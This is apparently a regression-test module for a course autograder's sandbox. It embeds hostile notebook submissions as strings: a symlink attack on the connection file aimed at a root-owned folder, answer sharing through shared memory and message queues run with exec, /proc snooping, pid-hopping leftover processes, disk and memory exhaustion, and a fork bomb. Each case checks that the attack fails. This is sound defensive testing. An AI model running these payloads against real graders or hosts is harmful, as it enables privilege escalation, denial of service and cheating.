"""Hostile submissions against the sandbox itself: the grader's root privileges, the kernels' shared
namespaces, and limits that one process at a time would not enforce.

Each case is one attack a tester reproduced; each must now earn nothing and change nothing on the host.
They are graded in the same batch as the rest of the catalogue (tests/catalogue/cases.py adds them).
"""
from __future__ import annotations

import os

from .cases import CORRECT, FULL, Case, Check, cell, student

# -- the hostile code -----------------------------------------------------------------------------------
# A kernel swaps its connection file (and a socket) for links to a folder of root's, then dies: on the
# restart, a grader that chowns or writes the connection file would follow the link as root.
CONNECTION_FILE_LINK = '''import json, os, sys

conn = sys.argv[sys.argv.index("-f") + 1]  # the connection file this kernel was started with
with open(conn) as f:
    ipc = os.path.dirname(json.load(f)["ip"])  # the folder of the kernel's sockets, on the grader's disk
done = {}
for path in [conn, os.path.join(ipc, "kernel.json"), os.path.join(ipc, "k-1")]:
    try:
        if os.path.lexists(path):
            os.unlink(path)
        os.symlink(TARGET, path)
        done[path] = "LINKED"
    except OSError as exc:
        done[path] = type(exc).__name__
print("CATALOGUE links:", done, flush=True)
os._exit(1)
'''

# Shared-memory helpers for the colluder and the freeloader (SysV shared memory, POSIX message queue).
IPC_HELPERS = '''import ctypes, json, os

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.mq_open.restype = ctypes.c_int
IPC_CREAT, SHM_RDONLY = 0o1000, 0o10000
QUEUE = ("/" + KEY_NAME).encode()
'''

COLLUDER = IPC_HELPERS + '''
blob = json.dumps(ANSWERS).encode()
segment = _libc.shmget(KEY, 65536, IPC_CREAT | 0o666)
if segment >= 0:
    address = _libc.shmat(segment, None, 0)
    ctypes.memmove(address, len(blob).to_bytes(4, "little") + blob, 4 + len(blob))
queue = _libc.mq_open(QUEUE, os.O_CREAT | os.O_WRONLY | os.O_NONBLOCK, 0o666, None)
if queue >= 0:
    for _ in range(5):
        _libc.mq_send(queue, blob, len(blob), 0)
print("CATALOGUE colluder: answers stored", segment >= 0, queue >= 0)
'''

FREELOADER = IPC_HELPERS + '''import time

STOLEN, channel = {}, None
for _ in range(40):  # a bounded wait for the colluder, graded next to this one or just before
    segment = _libc.shmget(KEY, 0, 0)
    if segment >= 0:
        address = _libc.shmat(segment, None, SHM_RDONLY)
        if address not in (None, ctypes.c_void_p(-1).value):
            n = int.from_bytes(ctypes.string_at(address, 4), "little")
            if n:
                STOLEN, channel = json.loads(ctypes.string_at(address + 4, n)), "SysV shared memory"
                break
    queue = _libc.mq_open(QUEUE, os.O_RDONLY | os.O_NONBLOCK)
    if queue >= 0:
        buffer = ctypes.create_string_buffer(1 << 16)
        n = _libc.mq_receive(queue, buffer, len(buffer), None)
        if n > 0:
            STOLEN, channel = json.loads(buffer.raw[:n]), "a POSIX message queue"
            break
    time.sleep(0.15)
print("CATALOGUE freeloader:", f"GOT ANSWERS through {channel}" if channel else "nothing found")
'''

# Which processes does the kernel see? Only its own (and the namespace's init), whatever their number.
PROC_VIEW = '''import os

me = os.getuid()
seen, foreign = 0, []
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    try:
        uid = os.stat(f"/proc/{pid}").st_uid
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            argv = f.read().replace(b"\\0", b" ").decode(errors="replace")[:60]
    except OSError:
        continue
    seen += 1
    if uid != me and pid != "1":  # pid 1: the sandbox's own init
        foreign.append(f"{pid}:{uid}:{argv}")
print(f"CATALOGUE proc: {seen} processes, foreign: {foreign[:5]}")
'''

# Leaves processes behind that a single pass over /proc misses (they change pid all the time), then kills
# its kernel: the next kernel of the same user must not start while any of them lives.
LEAVE_PROCESSES_BEHIND = '''import os, signal, time

def hop(until):
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    start = time.monotonic()
    while time.monotonic() < until:  # bounded: gone within a minute whatever happens
        if time.monotonic() - start > 8:
            time.sleep(0.2)  # past the restart: hop slowly, to be found by the next kernel
        if os.fork():
            os._exit(0)  # the parent goes, the child carries on under a new pid
    os._exit(0)

until = time.monotonic() + 60
for _ in range(3):
    if os.fork() == 0:
        try:
            hop(until)
        finally:
            os._exit(0)
time.sleep(0.2)
os._exit(1)
'''

# In the next kernel: how many tasks does this user have, on the whole machine, beyond the ones this kernel
# can see? RLIMIT_NPROC counts them all: a fork fails once the user has as many tasks as the soft limit.
COUNT_USER_TASKS = '''import os, resource

def tasks_of_my_user():
    soft, hard = resource.getrlimit(resource.RLIMIT_NPROC)
    low, high = 1, soft  # the smallest limit at which a fork still succeeds is the count + 1
    while low < high:
        mid = (low + high) // 2
        resource.setrlimit(resource.RLIMIT_NPROC, (mid, hard))
        try:
            pid = os.fork()
        except BlockingIOError:
            low = mid + 1
            continue
        finally:
            resource.setrlimit(resource.RLIMIT_NPROC, (soft, hard))
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        high = mid
    return low - 1

def visible_tasks():
    """Tasks of this user in sight: (all of them, those of processes in other sessions than the kernel's)."""
    mine, strangers = 0, 0
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                    n = len(os.listdir(f"/proc/{pid}/task"))
                    mine += n
                    strangers += n if os.getsid(int(pid)) != os.getsid(0) else 0
            except OSError:
                pass
    return mine, strangers

mine, strangers = visible_tasks()
total = tasks_of_my_user()
print(f"CATALOGUE leftovers: {max(total - mine, 0) + strangers} tasks of this kernel's user that it did not start "
      f"({strangers} in sight, {total} in all)")
'''


# Past the scratch limit through the socket folder, which lives on the grader's disk.
IPC_FILL = '''import json, os, sys, time

conn = sys.argv[sys.argv.index("-f") + 1]
with open(conn) as f:
    ipc = os.path.dirname(json.load(f)["ip"])
written, files, error = 0, 0, None
deadline = time.monotonic() + 6
try:
    while written < 640 and time.monotonic() < deadline:  # 64 MiB files: under the file size limit
        with open(os.path.join(ipc, f"fill-{written}.bin"), "wb") as f:
            for _ in range(4):
                f.write(bytes(2**24))
                written += 16
    while files < 20000 and time.monotonic() < deadline:
        open(os.path.join(ipc, f"inode-{files}"), "w").close()
        files += 1
except OSError as exc:
    error = type(exc).__name__
for name in os.listdir(ipc) if os.access(ipc, os.W_OK) else []:
    if name.startswith(("fill-", "inode-")):
        os.unlink(os.path.join(ipc, name))
print(f"CATALOGUE ipc: wrote {written} MiB and {files} files, then {error}")
'''

# Memory across several processes: each child stays under the per-process limit, together they do not.
# Memory across several processes: each child stays under the per-process limit, together they do not.
# One child per cell (writing 1 GiB takes a few seconds on a busy machine; a cell may run 10).
MEMORY_CHILDREN = '''import os

HOLDERS, RELEASE_R, RELEASE_W = [], *os.pipe()

def hold_one_gib():
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        os.close(RELEASE_W)
        try:
            hog = b"\\1" * 2**30  # every page written
            os.write(w, b"held")
            os.read(RELEASE_R, 1)  # held until the count
        finally:
            os._exit(0)
    os.close(w)
    # A child killed before it held its memory closes its pipe without a word.
    if os.read(r, 4) == b"held":
        HOLDERS.append(pid)
'''

MEMORY_COUNT = '''alive = [pid for pid in HOLDERS if os.waitpid(pid, os.WNOHANG) == (0, 0)]
os.close(RELEASE_W)
for pid in HOLDERS:
    try:
        os.waitpid(pid, 0)
    except ChildProcessError:
        pass
print(f"CATALOGUE memory: {len(alive)} of 5 children held 1 GiB at once")
'''

# Forks from a small process of its own (a kernel with torch loaded forks slowly), until refused.
FORK_COUNT = '''import subprocess, sys

def add(a, b):
    return a + b

BOMB = """
import os, signal, time
children = []
try:
    while len(children) < 2000:  # bounded twice: the sandbox stops it long before this
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                time.sleep(60)
            finally:
                os._exit(0)
        children.append(pid)
except OSError as exc:
    print(f"CATALOGUE fork: {len(children)} processes, then {type(exc).__name__}", flush=True)
for pid in children:  # the checks after this cell need threads of their own
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
"""
print(subprocess.run([sys.executable, "-c", BOMB], capture_output=True, text=True).stdout.strip())
'''


# -- builders -------------------------------------------------------------------------------------------
def root_owned_folder(ctx) -> str:
    """A folder of root's next to the course, made by this case: it must still be root's afterwards."""
    return str(ctx.course.parent / f"root-owned-{ctx.token}")


def b_connection_file_link(ctx):
    target = root_owned_folder(ctx)
    os.makedirs(target, mode=0o755, exist_ok=True)
    return student(ctx, after=[("add", f"TARGET = {target!r}\n" + CONNECTION_FILE_LINK)])


def _key(ctx) -> tuple[int, str]:
    return int(ctx.token[:7], 16), f"llmcourse-{ctx.token}"


def b_colluder(ctx):
    key, name = _key(ctx)
    return student(ctx, first=f"KEY, KEY_NAME = {key}, {name!r}\nANSWERS = {CORRECT!r}\n" + COLLUDER)


def b_freeloader(ctx):
    key, name = _key(ctx)
    answers = {ex: f"exec(STOLEN.get({ex!r}, ''))  # whatever the colluder stored" for ex in CORRECT}
    return student(ctx, answers, first=f"KEY, KEY_NAME = {key}, {name!r}\n" + FREELOADER)


def b_proc_view(ctx):
    return student(ctx, after=[("add", PROC_VIEW)])


def b_leftovers(ctx):
    nb = student(ctx, after=[("add", LEAVE_PROCESSES_BEHIND)])
    position = nb.cells.index(cell(nb, "add")) + 2
    import nbformat

    nb.cells.insert(position, nbformat.v4.new_code_cell(COUNT_USER_TASKS))
    return nb


def b_ipc_fill(ctx):
    return student(ctx, after=[("add", IPC_FILL)])


def b_memory_children(ctx):
    return student(ctx, after=[("add", MEMORY_CHILDREN)] + [("add", "hold_one_gib()")] * 5 + [("add", MEMORY_COUNT)])


def b_fork_count(ctx):
    return student(ctx, {"add": FORK_COUNT})


# -- host-side verifications ------------------------------------------------------------------------------
def v_root_folder_stays_roots(obs) -> list[str]:
    folder = root_owned_folder(obs.run.ctx)
    try:
        st = os.lstat(folder)
    except OSError as exc:
        return [f"the root-owned folder {folder} is gone ({exc})"]
    return [] if (st.st_uid, st.st_gid) == (0, 0) else [f"{folder} now belongs to uid {st.st_uid}, gid {st.st_gid}"]


def v_no_leftover_processes(obs) -> list[str]:
    return [f"a process outlived the grading: {p}" for p in obs.run.stray_processes]


NOTHING = {"add": 0, "scale": 0, "mean_rows": 0}

SANDBOX_CASES: list[Case] = [
    Case("connection_file_link", "A cell replaces its connection file and a socket by links to a folder of root's, "
                                 "then exits: the restart must not hand that folder to the kernel's user.",
         b_connection_file_link, FULL, message=r"cell \d+: the kernel died", verify=v_root_folder_stays_roots),
    Case("shm_colluder", "Stores its correct answers in SysV shared memory and a POSIX message queue.",
         b_colluder, FULL, message="", output=(r"CATALOGUE colluder: answers stored",)),
    Case("shm_freeloader", "Graded next to the colluder: looks for its answers in shared memory and the message "
                           "queue, and runs whatever it finds as its own answers.",
         b_freeloader, NOTHING, message="", output=(r"CATALOGUE freeloader: nothing found",),
         forbidden=(r"GOT ANSWERS",)),
    Case("proc_view", "A cell lists /proc: the processes of the machine and of the other kernels.",
         b_proc_view, FULL, output=(r"CATALOGUE proc: \d+ processes, foreign: \[\]",)),
    Case("uid_leftovers", "A cell leaves processes behind that change pid all the time and kills its kernel; the "
                          "next cell counts, in the new kernel, the tasks of its user it cannot account for.",
         b_leftovers, FULL, message=r"cell \d+: the kernel died",
         output=(r"CATALOGUE leftovers: [0-2] tasks of this kernel's user that it did not start",), verify=v_no_leftover_processes),
    Case("ipc_fill", "A cell writes 640 MiB and 20,000 files into its socket folder on the grader's disk.",
         b_ipc_fill, FULL, output=(r"CATALOGUE ipc: wrote 0 MiB and 0 files",)),
    # Not all five: the group's limit holds for the kernel's processes together. How many fit below it depends on
    # what the kernel itself is charged for (pages it shares with other processes are charged to whoever touched
    # them first), so three or four do.
    Case("memory_children", "Five children each write 1 GiB (under the per-process limit, 5 GiB against a 4 GiB "
                            "limit together).",
         b_memory_children, FULL, message="", output=(r"CATALOGUE memory: [0-4] of 5 children held",)),
    Case("fork_count", "`add`'s cell forks sleeping children in sessions of their own until fork is refused.",
         b_fork_count, FULL, message="",
         output=(r"CATALOGUE fork: ([0-9]{1,2}|[1-4][0-9]{2}|50[0-9]|51[0-2]) processes, then BlockingIOError",),
         verify=v_no_leftover_processes),
]
assert all(isinstance(c.expected, dict) and not isinstance(c.expected, Check) for c in SANDBOX_CASES)
